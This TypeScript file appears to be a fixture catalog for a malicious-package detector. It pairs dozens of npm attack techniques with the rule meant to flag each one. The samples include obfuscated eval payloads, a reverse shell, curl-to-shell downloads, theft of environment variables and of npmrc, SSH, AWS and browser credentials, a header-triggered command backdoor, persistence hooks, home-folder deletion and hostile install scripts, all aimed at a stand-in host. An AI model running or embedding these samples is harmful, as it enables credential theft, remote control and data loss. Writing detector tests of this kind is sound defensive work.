/**
 * Ways to write an attack that no single incident owns: each put into the entry point of an otherwise unchanged package, and the rule that
 * has to tell of it. Nothing here is ever run; no host exists.
 */
export interface CodeTechnique {
  readonly name: string
  /** Put into index.js, the entry point. */
  readonly code?: string
  readonly files?: Readonly<Record<string, string>>
  /** Laid over package.json. */
  readonly manifest?: object
  /** The most telling rule. */
  readonly told: string
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')

/** Each byte as a character that no editor shows. */
const invisible = (text: string): string =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('')

const sends =
  "require('https').request({ hostname: 'x.example', method: 'POST' }).end(JSON.stringify(process.env).slice(0, 0))"
const decoded = `Buffer.from('${base64(sends)}', 'base64').toString()`
const piped = 'curl https://x.example/inert | sh'

const ranAsCode: Readonly<Record<string, string>> = {
  'a module within a text': `import('data:text/javascript;base64,${base64(sends)}')`,
  'a module of another host': "import('https://x.example/inert.mjs')",
  'a loader under another name': `require('module')._load('child_' + 'process').exec('${piped}')`,
  "a function's constructor": `;(() => {}).constructor(${decoded})()`,
  "an array method's constructor": `;[]['filter']['constructor'](atob('${base64(sends)}'))()`,
  'a global by a decoded name': `globalThis[Buffer.from('ZXZhbA==', 'base64').toString()](${decoded})`,
  'a packed text in a context':
    "require('vm').runInThisContext(require('zlib').inflateSync(Buffer.from('eJwr', 'base64')).toString())",
  'a decrypted text':
    "const c = require('crypto').createDecipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16)); eval(c.update('00', 'hex', 'utf8') + c.final('utf8'))",
  'a text decrypted by the description of the package':
    "const c = require('crypto').createDecipher('aes256', process.env.npm_package_description); const m = new module.constructor(); m._compile(c.update('aa', 'hex', 'utf8'), '')",
  'invisible characters': `eval([...'${invisible(sends)}'].map((c) => c.codePointAt(0)).map((c) => (c < 0xfe10 ? c - 0xfe00 : c - 0xe0100 + 16)).map((c) => String.fromCharCode(c)).join(''))`,
  'a download that is evaluated':
    "require('https').get('https://x.example', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => new Function(d)()) })",
  'a download that is kept and loaded':
    "(async () => { const t = await (await fetch('https://x.example')).text(); require('fs').writeFileSync('/tmp/a.js', t); require('/tmp/a.js') })()",
  'messages of a socket':
    "const w = new (require('ws'))('wss://x.example'); w.on('message', (m) => eval(m.toString()))",
  'a shell at the other end of a socket':
    "const s = require('net').connect(4444, 'x.example'); const c = require('child_process').spawn('/bin/sh'); s.pipe(c.stdin); c.stdout.pipe(s)",
  'a command by a name in pieces': `const a = ['child', '_', 'process'].join(''); require(a)['ex' + 'ec']('${piped}')`,
  'a command by reflection': `Reflect.apply(require('child_process').exec, null, ['${piped}'])`,
  'a text in another thread': `new (require('worker_threads').Worker)(${decoded}, { eval: true })`,
  'a text in a timer': `setTimeout(${decoded}, 10)`,
  'an encoded command':
    "require('child_process').exec('powershell -enc ' + Buffer.from('iwr https://x.example|iex', 'utf16le').toString('base64'))",
}

const sentOut: Readonly<Record<string, string>> = {
  'the environment by names that are looked up':
    "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 0) + '.x.example', () => {})",
  'a file of credentials by promises':
    "(async () => { const t = await require('fs')['promises'].readFile(require('os').homedir() + '/.npmrc', 'utf8'); await fetch('https://x.example', { method: 'POST', body: t.slice(0, 0) }) })()",
  'a key by a callback':
    "require('fs').readFile(require('path').join(require('os').homedir(), '.ssh', 'id_rsa'), (e, d) => { if (!e) require('https').request('https://x.example', { method: 'POST' }).end(d.slice(0, 0)) })",
  'credentials by a stream':
    "require('fs').createReadStream(require('os').homedir() + '/.aws/credentials', { end: 0 }).pipe(require('https').request('https://x.example', { method: 'POST' }))",
  "a browser's passwords":
    "const p = require('path').join(process.env.LOCALAPPDATA || '', 'Google/Chrome/User Data/Default/Login Data'); fetch('https://x.example', { method: 'POST', body: require('fs').readFileSync(p).slice(0, 0) })",
  'the environment spread by a rest pattern':
    "const { ...e } = process.env; fetch('https://x.example', { method: 'POST', body: new URLSearchParams(e).toString().slice(0, 0) })",
  'the environment in a loop':
    "let s = ''; for (const k in process.env) s += k + '=' + process.env[k]; require('https').get('https://x.example/?d=' + encodeURIComponent(s).slice(0, 0))",
  'the environment by a class':
    "class A { constructor() { this.d = JSON.stringify(process.env).slice(0, 0) } send() { const r = require('https').request('https://x.example', { method: 'POST' }); r.write(this.d); r.end() } } new A().send()",
  'the environment by a module loaded on demand':
    "import('node-fetch').then(({ default: f }) => f('https://x.example', { method: 'POST', body: JSON.stringify({ ...process.env }).slice(0, 0) }))",
  'the environment by mail':
    "require('nodemailer').createTransport({ host: 'smtp.x.example' }).sendMail({ to: 'a@x.example', text: JSON.stringify(process.env).slice(0, 0) })",
  'the environment by datagrams':
    "require('dgram').createSocket('udp4').send(JSON.stringify(process.env).slice(0, 0), 53, 'x.example')",
  'the environment by another version of the protocol':
    "require('http2').connect('https://x.example').request({ ':path': '/?' + encodeURIComponent(JSON.stringify(process.env)).slice(0, 0) })",
  'the environment by a command': "require('child_process').exec('printenv | curl -d @- https://x.example')",
  'a file of credentials by a command':
    "require('child_process').execSync('curl -F f=@$HOME/.npmrc https://x.example')",
  'a token that a command tells':
    "const t = require('child_process').execSync('gh auth token').toString(); fetch('https://api.x.example/gists', { method: 'POST', headers: { authorization: t.slice(0, 0) }, body: '{}' })",
}

const keys: Readonly<Record<string, string>> = {
  'words of a wallet in an address':
    "module.exports.wallet = (mnemonic) => { require('https').get('https://x.example/?m=' + Buffer.from(mnemonic).toString('base64')); return mnemonic.split(' ') }",
  'a private key in a header':
    "module.exports.sign = (privateKey, text) => { fetch('https://x.example', { headers: { 'x-session-id': privateKey } }); return text }",
}

const abilities: Readonly<Record<string, string>> = {
  'the bindings of the process':
    "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'true'], stdio: [] })",
  'a hook in a checkout': "require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh', { mode: 0o755 })",
  'a line in the settings of a shell': "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '# inert')",
  'a table of timed commands': "require('child_process').execSync('(crontab -l; echo inert) | crontab -')",
  'a home folder that goes': "require('fs').rmSync(require('os').homedir() + '/', { recursive: true })",
  'another package that is rewritten':
    "const p = require.resolve('ethers'); const fs = require('fs'); fs.writeFileSync(p, fs.readFileSync(p, 'utf8').replace('x', 'x'))",
  'a file of no code that is evaluated': "eval(require('fs').readFileSync(__dirname + '/LICENSE.dat', 'utf8'))",
}

const all = (told: string, codes: Readonly<Record<string, string>>): readonly CodeTechnique[] =>
  Object.entries(codes).map(([name, code]) => ({ name, code, told }))

export const codeTechniques: readonly CodeTechnique[] = [
  ...all('remote-code-run', ranAsCode),
  ...all('secrets-exfiltrated', sentOut),
  ...all('key-material-sent', keys),
  ...all('capability-added', abilities),
  {
    name: 'requests that all go through somebody',
    code: "const f = globalThis.fetch; globalThis.fetch = function (u, o) { f('https://x.example', { method: 'POST' }); return f(u, o) }",
    told: 'global-hooked',
  },
  {
    name: 'a server that listens to one header',
    code: "const http = require('http'); const emit = http.Server.prototype.emit; http.Server.prototype.emit = function (name, request) { if (request.headers['x-run']) require('child_process').exec(request.headers['x-run']); return emit.apply(this, arguments) }",
    told: 'global-hooked',
  },
  {
    name: 'a call home once a minute',
    code: "setInterval(() => fetch('https://x.example/ping?h=' + require('os').hostname()), 60000)",
    told: 'beacon-added',
  },
  {
    name: 'a page that tells of its visitors',
    code: "if (typeof document !== 'undefined') new Image().src = 'https://x.example/?c=' + encodeURIComponent(document.cookie).slice(0, 0)",
    told: 'beacon-added',
  },
  {
    name: 'the keys of a cloud machine',
    code: "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then((r) => r.text()).then((t) => fetch('https://x.example', { method: 'POST', body: t.slice(0, 0) }))",
    told: 'network-host-added',
  },
  {
    name: 'a package published with a token that was found',
    code: "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.+)/)[1]; fetch('https://registry.example/pkg', { method: 'PUT', headers: { authorization: 'Bearer ' + t.slice(0, 0) }, body: '{}' })",
    told: 'self-propagation',
  },
  {
    name: 'a script in the manifest itself',
    manifest: { scripts: { preinstall: 'env | curl -X POST --data-binary @- https://x.example' } },
    told: 'install-script-dangerous',
  },
  {
    name: 'code in the manifest itself',
    manifest: { scripts: { postinstall: `node -e "${sends}"` } },
    told: 'install-script-dangerous',
  },
  {
    name: 'a download that code in the manifest evaluates',
    manifest: {
      scripts: { postinstall: `node -e "fetch('https://x.example/p').then((r) => r.text()).then(eval)"` },
    },
    told: 'install-script-dangerous',
  },
  {
    name: 'a script whose failure is forgiven',
    manifest: { scripts: { preinstall: 'node lib/a.cjs || true' } },
    files: { 'lib/a.cjs': sends },
    told: 'install-script-dangerous',
  },
  {
    name: 'a file under the name of data',
    manifest: { scripts: { preinstall: 'node ./data.json.js' } },
    files: { 'data.json.js': sends },
    told: 'install-script-dangerous',
  },
  {
    name: 'a file of the tests that is loaded',
    code: "require('./test/setup')",
    files: { 'test/setup.js': sends },
    told: 'secrets-exfiltrated',
  },
  {
    name: 'code under the name of a text',
    code: "require('module')._extensions['.txt'] = require('module')._extensions['.js']; require('./notes.txt')",
    files: { 'notes.txt': sends },
    told: 'secrets-exfiltrated',
  },
]
